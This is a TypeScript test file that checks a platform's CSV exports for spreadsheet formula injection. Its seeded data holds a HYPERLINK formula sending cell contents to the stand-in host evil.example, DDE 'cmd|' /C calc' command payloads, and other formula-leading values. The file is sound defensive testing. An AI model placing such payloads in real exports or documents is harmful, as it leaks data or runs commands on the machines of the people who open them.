import { readdirSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { startTestPlatform, type TestPlatform } from "../helpers/platform.js";
import { makeMember, makeService } from "../helpers/factories.js";
import { createApp } from "../../src/app.js";
import { features } from "../../src/features/index.js";
import { EXPORT_NAMES } from "../../src/features/stats/stats.api.js";

/**
 * Every CSV export, found from the application's routing table, with a member whose fields carry
 * spreadsheet formulas: no cell of any export may start with = + - @, a tab or a carriage return.
 * A CSV route this test cannot expand, or a module writing CSV without src/http/csv.ts, fails it.
 */
const FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")';

/** Concrete paths of a CSV route pattern; a pattern nobody taught this test fails it. */
function csvPaths(pattern: string): string[] {
  if (!pattern.includes(":") && !pattern.includes("*")) return [pattern];
  if (pattern === "/api/stats/:file{[a-z]+\\.(csv|json)}")
    return EXPORT_NAMES.map((n) => `/api/stats/${n}.csv`);
  throw new Error(`a CSV route this test does not know how to call: ${pattern}`);
}

/** RFC 4180 fields, enough to read our own exports back. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = "";
  let quoted = false;
  const endField = () => {
    row.push(field);
    field = "";
  };
  for (let i = 0; i < text.length; i++) {
    const ch = text[i];
    if (quoted && ch === '"' && text[i + 1] === '"') {
      field += '"';
      i++;
    } else if (ch === '"') {
      quoted = !quoted;
    } else if (!quoted && ch === ",") {
      endField();
    } else if (!quoted && ch === "\n") {
      endField();
      rows.push(row);
      row = [];
    } else {
      field += ch;
    }
  }
  if (field || row.length) {
    endField();
    rows.push(row);
  }
  return rows;
}

function sourceFiles(dir: string): string[] {
  return readdirSync(dir, { withFileTypes: true }).flatMap((entry) => {
    const path = join(dir, entry.name);
    if (entry.isDirectory()) return sourceFiles(path);
    return /\.tsx?$/.test(entry.name) && !/\.test\.tsx?$/.test(entry.name) ? [path] : [];
  });
}

let t: TestPlatform;
let csvRoutes: string[] = [];
beforeAll(async () => {
  t = await startTestPlatform();
  const member = await makeMember(t.deps.db, {
    name: FORMULA,
    city: "+33 cmd|' /C calc'!A0",
    region: "-2+3",
    website: "https://evil.example/",
  });
  await makeService(t.deps.db, member.id, {
    name: "@SUM(1+1)*cmd|' /C calc'!A0",
    url: "https://pad.evil.example/",
  });
  await makeMember(t.deps.db, { name: "\t=1+1", city: "\r=2+2" });
  const app = createApp(t.deps, features);
  csvRoutes = [
    ...new Set(app.routes.filter((r) => r.method === "GET" && /csv/i.test(r.path)).map((r) => r.path)),
  ];
});
afterAll(async () => {
  await t.stop();
});

describe("CSV exports", () => {
  it("finds the CSV routes of the platform", () => {
    expect(csvRoutes).toEqual(
      expect.arrayContaining([
        "/api/members.csv",
        "/api/services.csv",
        "/api/stats/:file{[a-z]+\\.(csv|json)}",
      ]),
    );
  });

  it("never lets a cell start a formula, in any export", async () => {
    const client = t.client();
    const unsafe: string[] = [];
    const paths = csvRoutes.flatMap(csvPaths);
    for (const path of paths) {
      const res = await client.get(path);
      expect(res.status, path).toBe(200);
      expect(res.headers.get("content-type"), path).toMatch(/^text\/csv/);
      for (const [r, row] of parseCsv(res.text).entries())
        for (const cell of row) if (/^[=+\-@\t\r]/.test(cell)) unsafe.push(`${path} row ${r}: ${cell}`);
    }
    expect(unsafe).toEqual([]);
    expect(paths.length).toBeGreaterThanOrEqual(2 + EXPORT_NAMES.length);
  });

  it("keeps the member's text, quoted, where it is exported", async () => {
    const client = t.client();
    for (const path of ["/api/members.csv", "/api/services.csv", "/api/stats/organizations.csv"]) {
      const cells = parseCsv((await client.get(path)).text).flat();
      expect(cells, path).toContain(`'${FORMULA}`);
    }
    const members = parseCsv((await client.get("/api/members.csv")).text).flat();
    expect(members).toContain("'\t=1+1");
    expect(members).toContain("'-2+3");
    const services = parseCsv((await client.get("/api/services.csv")).text).flat();
    expect(services).toContain("'@SUM(1+1)*cmd|' /C calc'!A0");
  });

  it("keeps numbers as numbers", async () => {
    const rows = parseCsv((await t.client().get("/api/members.csv")).text);
    const header = rows[0] ?? [];
    const lat = header.indexOf("latitude");
    expect(rows.slice(1).every((r) => /^-?\d+(\.\d+)?$/.test(r[lat] ?? ""))).toBe(true);
  });

  it("writes CSV in one module only", () => {
    const writers = sourceFiles("src").filter((file) => {
      const text = readFileSync(file, "utf8");
      return /text\/csv|csv-stringify/.test(text);
    });
    expect(writers).toEqual([join("src", "http", "csv.ts")]);
  });
});
